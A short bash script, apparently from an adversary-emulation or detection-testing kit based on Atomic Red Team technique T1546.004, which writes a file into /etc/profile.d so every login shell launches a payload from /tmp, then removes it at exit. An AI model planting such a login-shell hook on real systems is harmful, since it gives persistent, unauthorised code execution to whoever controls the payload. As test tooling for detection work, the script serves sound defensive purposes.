#!/bin/bash
# technique: T1546.004
# tactic: persistence, privilege_escalation
# what: a script dropped into /etc/profile.d (run by every login shell)
# source: ART T1546.004 #4/#6 "System shell profile scripts"
# cleanup: the script is removed at exit
. "$(dirname "$0")/lib.sh"
f=/etc/profile.d/$VG_MARK.sh
vg_mkdir /etc/profile.d
vg_on_exit "rm -f '$f'"
echo "(/tmp/$VG_MARK/payload &) 2>/dev/null" > "$f"
